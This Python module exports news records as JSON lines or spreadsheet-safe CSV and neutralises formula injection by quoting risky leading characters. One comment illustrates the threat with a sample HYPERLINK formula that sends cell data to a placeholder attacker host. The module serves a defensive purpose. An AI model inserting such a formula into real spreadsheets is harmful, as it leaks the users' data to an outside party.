"""`cyz export`: records for the office's own tools, as JSON lines or CSV (Excel-ready)."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from pathlib import Path
from typing import TextIO

from cyz.record import SHANGHAI

CSV_COLUMNS = ["id", "published_at", "title", "source_id", "source_name", "origin", "url",
               "regions", "topics", "relevance", "language", "script", "cluster_id",
               "is_first_in_cluster", "gone_at", "text_truncated", "text"]

# Excel keeps at most this many characters in a cell; a longer one spills into the
# rows below and shifts every later record.
EXCEL_CELL_LIMIT = 32_767
# Excel (and LibreOffice) run a cell that starts with one of these as a formula: a page
# titled =HYPERLINK("http://evil.example/?x="&A1, …) would send the sheet's data away.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Writer = Callable[[Iterable[dict], TextIO], int]


def csv_cell(value: object) -> str:
    """One spreadsheet-safe CSV cell; every CSV cyz writes goes through it.

    A cell that a spreadsheet would read as a formula gets a leading single quote
    (OWASP's advice: shown as text, not run); one over Excel's cell limit is cut and
    ends with "…".
    """
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_START):
        text = "'" + text
    if len(text) > EXCEL_CELL_LIMIT:
        text = text[:EXCEL_CELL_LIMIT - 1] + "…"
    return text


def write_jsonl(records: Iterable[dict], out: TextIO) -> int:
    n = 0
    for record in records:
        out.write(json.dumps(record, ensure_ascii=False) + "\n")
        n += 1
    return n


def write_csv(records: Iterable[dict], out: TextIO, columns: list[str] = CSV_COLUMNS,
              topic_labels: dict[str, str] | None = None) -> int:
    """CSV that Excel opens correctly: UTF-8 with BOM, lists joined with ';'; topics by
    their Chinese labels (`topic_labels`: id → name) when given."""
    out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow(columns)
    n = 0
    for record in records:
        n += 1
        row = []
        for column in columns:
            value = record.get(column)
            if column == "topics" and topic_labels and isinstance(value, list):
                value = [topic_labels.get(t, t) for t in value]
            if column == "regions" and value and isinstance(value[0], dict):
                value = ";".join(f"{r['name']}:{r['count']}" for r in value or [])
            elif isinstance(value, list):
                value = ";".join(map(str, value))
            row.append(csv_cell(value))
        writer.writerow(row)
    return n


def write_file(path: Path, writer: Writer, records: Iterable[dict]) -> int:
    """Write `records` to `path`; raises OSError (missing directory, disk full, ...).

    A write that fails half-way removes the file: a truncated CSV opens in Excel as if
    it were complete. Devices and pipes (/dev/stdout, a FIFO) are left alone.
    """
    try:
        with open(path, "w", encoding="utf-8", newline="") as fh:
            return writer(records, fh)
    except OSError:
        if path.is_file():
            path.unlink(missing_ok=True)
        raise


# `cyz search --csv`: a weekly report's columns, headed for the office's readers.
SEARCH_CSV_COLUMNS = ["日期", "发布时间", "标题", "网站", "来源", "作者", "地区", "主题",
                      "转载数", "摘要", "链接"]



def beijing_minute(published: str | None) -> str:
    """`published_at` as Beijing time `YYYY-MM-DD HH:MM`, which Excel reads as a date;
    a date without a time stays `YYYY-MM-DD`, anything unreadable stays as it is."""
    if not published:
        return ""
    if len(published) <= 10:
        return published  # a day (or a month, a year): no time to show
    try:
        moment = datetime.fromisoformat(published)
    except ValueError:
        return published
    if moment.tzinfo is not None:  # naive means Beijing time already (record contract)
        moment = moment.astimezone(SHANGHAI)
    return moment.strftime("%Y-%m-%d %H:%M")


def search_rows(hits: Iterable, cluster_size: Callable[[dict], int],
                topic_labels: dict[str, str]) -> Iterator[dict]:
    """One SEARCH_CSV_COLUMNS row per search hit (`cyz.index.base.Hit`), in rank order:
    regions by name, topics by their Chinese labels, the reprint count (the other stored
    copies of the story), the snippet with its matches marked 【】."""
    for hit in hits:
        rec = hit.record
        regions = [r["name"] if isinstance(r, dict) else str(r) for r in rec.get("regions") or []]
        yield {
            "日期": beijing_minute(rec.get("published_at")),
            "发布时间": rec.get("published_at") or "",
            "标题": rec.get("title") or "",
            "网站": rec.get("source_name") or rec.get("source_id") or "",
            "来源": rec.get("origin") or "",
            "作者": rec.get("author") or "",
            "地区": "、".join(regions),
            "主题": "、".join(topic_labels.get(t, t) for t in rec.get("topics") or []),
            "转载数": cluster_size(rec) - 1,
            "摘要": hit.snippet or "",
            "链接": rec.get("url") or "",
        }
